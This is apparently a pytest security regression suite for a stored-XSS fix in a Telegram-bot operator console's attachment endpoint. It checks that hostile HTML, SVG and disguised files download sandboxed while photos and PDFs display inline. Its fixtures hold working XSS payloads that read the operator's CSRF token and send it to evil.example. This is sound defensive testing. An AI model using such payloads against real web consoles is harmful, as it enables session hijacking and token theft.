"""Issue 14, finding 7: stored XSS through attachments.

A Telegram document with ``mime_type`` ``text/html`` or ``image/svg+xml`` was saved as ``.html``
or ``.svg`` and ``/api/console/media/<key>`` served it inline as HTML, without CSP or
``nosniff``: opening it in the console ran the sender's script with the operator's session.
An attachment is shown inline only when it is a safe type whose bytes say so; everything else is
a download, and every answer is sandboxed.
"""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable, Mapping
from itertools import count
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from sqlalchemy import select

from bot.keys import SESSIONS, SETTINGS
from bot.media import MediaStore
from storage.models import Message
from tests.console.conftest import PASSWORD, seed_case
from tests.security.conftest import Client
from tests.support.browser import needs_chromium
from tests.support.e2e import eventually, settled
from tests.support.fake_providers import TELEGRAM_SECRET, FakeTelegram
from tests.support.server import RunningSiaga

SCRIPT = (
    b"fetch('/api/console/me').then(r=>r.json()).then(d=>"
    b"fetch('https://evil.example/?t='+d.operator.csrf_token))"
)
HTML = b"<!doctype html><html><body><h1>slip gaji</h1><script>" + SCRIPT + b"</script></body>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>" + SCRIPT + b"</script></svg>"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
_ids = count(1)


def _document_update(file_id: str, name: str, mime: str) -> dict[str, object]:
    n = next(_ids)
    user = {"id": 700000100 + n, "is_bot": False, "first_name": "Sari", "language_code": "id"}
    return {
        "update_id": 820000000 + n,
        "message": {
            "message_id": 100 + n,
            "from": user,
            "chat": {"id": user["id"], "type": "private", "first_name": "Sari"},
            "date": 1763800016,
            "document": {
                "file_name": name,
                "mime_type": mime,
                "file_id": file_id,
                "file_unique_id": f"uniq{file_id}",
                "file_size": 100,
            },
        },
    }


async def _send_document(
    app: RunningSiaga, tg: FakeTelegram, name: str, mime: str, data: bytes
) -> str:
    """A worker sends a document on Telegram; returns the media key it was stored under."""
    file_id = f"DOC{next(_ids):04d}"
    tg.add_file(file_id, data, f"documents/{name}")
    body = json.dumps(_document_update(file_id, name, mime)).encode()
    async with (
        aiohttp.ClientSession() as http,
        http.post(
            f"{app.url}/webhooks/telegram",
            data=body,
            headers={
                "Content-Type": "application/json",
                "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET,
            },
        ) as resp,
    ):
        assert resp.status == 200
    keys: list[str] = []

    async def stored() -> bool:
        async with app.app[SESSIONS]() as session:
            rows = (
                await session.scalars(select(Message.media).where(Message.direction == "in"))
            ).all()
        keys[:] = [m["url"] for media in rows for m in media or [] if m.get("url")]
        return any(key for key in keys if key not in _seen)

    await eventually(stored)
    await settled(app)
    [key] = [k for k in keys if k not in _seen]
    _seen.add(key)
    return key


_seen: set[str] = set()


def _sandboxed(headers: Mapping[str, str]) -> None:
    assert headers.get("X-Content-Type-Options") == "nosniff"
    csp = headers.get("Content-Security-Policy", "")
    assert "sandbox" in csp
    assert "default-src 'none'" in csp
    assert headers.get("Content-Disposition")


async def test_html_and_svg_attachments_are_never_rendered(
    app: RunningSiaga,
    fake_telegram: FakeTelegram,
    logged_in: Callable[[str], Awaitable[Client]],
) -> None:
    _seen.clear()
    ana = await logged_in("ana")
    hostile = [
        ("slip.html", "text/html", HTML),
        ("foto.svg", "image/svg+xml", SVG),
        ("foto.jpg", "image/jpeg", HTML),  # claims to be a photo; the bytes are a web page
        ("slip.pdf", "application/pdf", SVG),
        ("kontrak.xhtml", "application/xhtml+xml", HTML),
    ]
    for name, mime, data in hostile:
        key = await _send_document(app, fake_telegram, name, mime, data)
        async with ana.http.get(f"{app.url}/api/console/media/{key}") as resp:
            assert resp.status == 200, name
            assert await resp.read() == data  # nothing lost: the operator can still download it
            assert resp.content_type == "application/octet-stream", (name, resp.content_type)
            assert resp.headers["Content-Disposition"].startswith("attachment"), name
            _sandboxed(resp.headers)


async def test_photos_and_pdfs_are_shown_inline_in_a_sandbox(
    app: RunningSiaga,
    fake_telegram: FakeTelegram,
    logged_in: Callable[[str], Awaitable[Client]],
) -> None:
    _seen.clear()
    ana = await logged_in("ana")
    key = ""
    for name, mime, data in [
        ("foto.jpg", "image/jpeg", JPEG),
        ("slip.pdf", "application/pdf", PDF),
        ("suara.ogg", "audio/ogg", b"OggS\x00\x02" + b"\x00" * 40),
    ]:
        key = await _send_document(app, fake_telegram, name, mime, data)
        async with ana.http.get(f"{app.url}/api/console/media/{key}") as resp:
            assert resp.status == 200
            assert await resp.read() == data
            assert resp.content_type == mime, name
            assert resp.headers["Content-Disposition"].startswith("inline"), name
            _sandboxed(resp.headers)
    # Logged out: nothing.
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{app.url}/api/console/media/{key}") as resp,
    ):
        assert resp.status == 401


def _png() -> bytes:
    """A real 1x1 PNG, so the browser can show it."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


@pytest.mark.browser
@needs_chromium
async def test_in_the_browser_a_web_page_attachment_downloads_and_a_photo_shows(
    app: RunningSiaga, browser: Any
) -> None:
    """What an operator sees: the photo in the page; the HTML 'document' a download, its script
    never run (on the old code the link opened the page and the script read /api/console/me)."""
    from playwright.async_api import expect

    settings = app.app[SETTINGS]
    store = MediaStore(Path(settings.media_dir), settings.media_max_bytes)
    page_key = await store.save(HTML, "text/html")
    photo_key = await store.save(_png(), "image/png")
    ref = await seed_case(
        app.app[SESSIONS],
        media=[
            {"kind": "image", "url": photo_key, "mime_type": "image/png"},
            {"kind": "document", "url": page_key, "mime_type": "text/html", "caption": "slip"},
        ],
    )
    context = await browser.new_context(accept_downloads=True)
    me_calls: list[str] = []
    context.on(
        "request", lambda r: me_calls.append(r.url) if r.url.endswith("/api/console/me") else None
    )
    page = await context.new_page()
    await page.goto(f"{app.url}/console/login")
    await page.fill("input[name=username]", "ana")
    await page.fill("input[name=password]", PASSWORD)
    await page.click("button[type=submit]")
    await expect(page).to_have_url(f"{app.url}/console")
    await page.goto(f"{app.url}/console/cases/{ref}")

    photo = page.locator("img.media")
    await expect(photo).to_be_visible()
    assert await photo.evaluate("img => img.complete && img.naturalWidth") == 1

    me_calls.clear()
    async with page.expect_download() as download_info:
        await page.locator("a.doc").click()
    download = await download_info.value
    assert download.suggested_filename.endswith(".html")
    await page.wait_for_timeout(500)  # give a wrongly rendered page the time to run its script
    assert me_calls == []
    assert len(context.pages) <= 2
    for opened in context.pages:
        assert "slip gaji" not in await opened.content()
    await context.close()
